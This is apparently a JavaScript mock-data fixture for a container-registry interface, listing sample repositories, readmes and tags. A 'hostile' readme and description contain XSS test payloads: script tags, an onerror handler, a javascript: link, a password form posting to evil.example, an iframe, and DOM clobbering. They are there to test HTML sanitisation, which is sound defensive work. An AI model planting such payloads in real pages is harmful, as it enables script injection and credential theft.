// Seeded data: the same on every start.
let seed = 42;
export function random(limit) {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return (seed >>> 8) % limit;
}
const hex = (length) => Array.from({ length }, () => random(16).toString(16)).join('');
export const digest = () => `sha256:${hex(64)}`;
const now = Date.now();
export const ago = (hours) => new Date(now - hours * 3600_000).toISOString().replace('Z', '000Z');

export const categories = [
  ['Databases & storage', 'databases-and-storage'],
  ['Languages & frameworks', 'languages-and-frameworks'],
  ['Networking', 'networking'],
  ['Operating systems', 'operating-systems'],
  ['Web servers', 'web-servers'],
  ['Monitoring & observability', 'monitoring-and-observability'],
].map(([name, slug]) => ({ name, slug }));

export const readme = (name) => `# ${name}

The **${name}** image, built every night from the main branch.

\`\`\`console
$ docker run --rm -it ${name}:latest
\`\`\`

## Tags

| Tag | Base | Support |
| --- | --- | --- |
| \`latest\` | Debian 12 | yes |
| \`alpine\` | Alpine 3.20 | yes |

- Runs without root
- Signed with [cosign](https://docs.sigstore.dev)

> Configuration is read from \`/etc/${name}/config.toml\`.
`;

export const hostileReadme = `# Hostile
<script>window.__hacked = 'script'</script>
<img src=x onerror="window.__hacked = 'onerror'">
<a href="javascript:window.__hacked = 'href'">click</a>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
<svg><script>window.__hacked = 'svg'</script></svg>
![tracking](https://evil.example/pixel.png)
[data](data:text/html,<script>alert(1)</script>)
<div style="position:fixed;inset:0;background:red">over everything</div>
<h1 id="root" name="root">clobber</h1>
`;

const samples = [
  ['library', 'nginx', 'official', 'The web server and reverse proxy', 'web-servers', 1_204_331_204, 812],
  [
    'library',
    'postgres',
    'official',
    'The PostgreSQL object-relational database',
    'databases-and-storage',
    893_224_001,
    640,
  ],
  [
    'library',
    'alpine',
    'official',
    'A minimal image based on Alpine Linux, 5 MB in size',
    'operating-systems',
    2_804_331_204,
    701,
  ],
  [
    'library',
    'debian',
    'official',
    'Debian is a Linux distribution made of free and open-source software',
    'operating-systems',
    504_331_204,
    390,
  ],
  ['acme', 'api', 'verified_publisher', 'Acme storefront API', 'languages-and-frameworks', 48_211, 12],
  [
    'acme',
    'worker',
    'verified_publisher',
    'Background jobs of the storefront',
    'languages-and-frameworks',
    31_877,
    4,
  ],
  [
    'acme',
    'huge',
    'verified_publisher',
    'A repository with a hundred thousand tags',
    'languages-and-frameworks',
    1_871_877,
    2,
  ],
  [
    'acme',
    'hostile',
    'none',
    '<img src=x onerror="window.__hacked=1"> "quotes" & <b>markup</b>',
    'networking',
    3,
    0,
  ],
  [
    'grafton',
    'metrics',
    'open_source',
    'Collects, stores and shows metrics',
    'monitoring-and-observability',
    8_402_113,
    233,
  ],
  [
    'grafton',
    'logs',
    'open_source',
    'Like grep, for a fleet',
    'monitoring-and-observability',
    2_402_113,
    120,
  ],
  [
    'alice',
    'toolbox',
    'none',
    'Debugging tools in one image: curl, dig, tcpdump, strace',
    'networking',
    9_812,
    31,
  ],
  ['alice', 'blog', 'none', '', 'web-servers', 122, 0],
  ['alice', 'empty', 'none', 'Nothing has been pushed yet', 'web-servers', 0, 0],
];

export const repositories = samples.map(
  ([namespace, name, badge, description, category, pulls, stars], at) => ({
    name,
    namespace,
    repository_type: 'image',
    status: name === 'blog' ? 0 : 1,
    status_description: name === 'blog' ? 'inactive' : 'active',
    description,
    is_private: name === 'worker',
    is_automated: false,
    can_edit: true,
    is_migrated: false,
    star_count: stars,
    pull_count: pulls,
    last_updated: name === 'empty' ? null : ago(3 + at * 31),
    last_modified: ago(2 + at * 31),
    date_registered: ago(24 * 400 + at),
    affiliation: 'owner',
    user: namespace,
    hub_user: namespace,
    namespace_type: ['acme', 'grafton', 'library'].includes(namespace) ? 'Organization' : 'User',
    media_types: ['application/vnd.oci.image.index.v1+json'],
    content_types: ['image'],
    categories: categories.filter(({ slug }) => slug === category),
    storage_size: name === 'empty' ? 0 : 40_000_000 + random(900_000_000),
    badge,
    collaborator_count: 1,
    has_starred: false,
    full_description: name === 'hostile' ? hostileReadme : name === 'empty' ? '' : readme(name),
    permissions: { read: true, write: true, admin: true },
    immutable_tags_settings: { enabled: name === 'api', rules: name === 'api' ? ['v[0-9.]+'] : [] },
    source: null,
    logo_url: {},
  }),
);

const platforms = [
  { os: 'linux', architecture: 'amd64', variant: '', os_version: '' },
  { os: 'linux', architecture: 'arm64', variant: 'v8', os_version: '' },
  { os: 'linux', architecture: 'arm', variant: 'v7', os_version: '' },
];

const digests = Array.from({ length: 64 }, digest);

function tagRow(name, at) {
  return {
    name,
    digest: digests[at % digests.length],
    media_type: 'application/vnd.oci.image.index.v1+json',
    content_type: 'image',
    size: 28_000_000 + ((at * 7919) % 90_000_000),
    platforms: platforms.slice(0, 1 + (at % 3)),
    pushed_at: ago(2 + at * 5),
    pushed_by: at % 3 ? 'alice' : 'acmebot',
    pulled_at: at % 7 === 6 ? null : ago(1 + at),
    immutable: /^v\d/.test(name),
    stale: at % 7 === 6,
  };
}

const fewTags = [
  'latest',
  'edge',
  'v2.4.1',
  'v2.4.0',
  'v2.3.9',
  'v2.3.8',
  'v2.3',
  'v2',
  'alpine',
  'debug',
  'pr-1182',
  'pr-1181',
];
export const tags = new Map(
  repositories.map((repository) => {
    const names =
      repository.name === 'empty'
        ? []
        : repository.name === 'huge'
          ? Array.from({ length: 100_000 }, (_, at) => `build-${String(100_000 - at).padStart(6, '0')}`)
          : fewTags;
    return [`${repository.namespace}/${repository.name}`, names.map(tagRow)];
  }),
);
export { platforms };
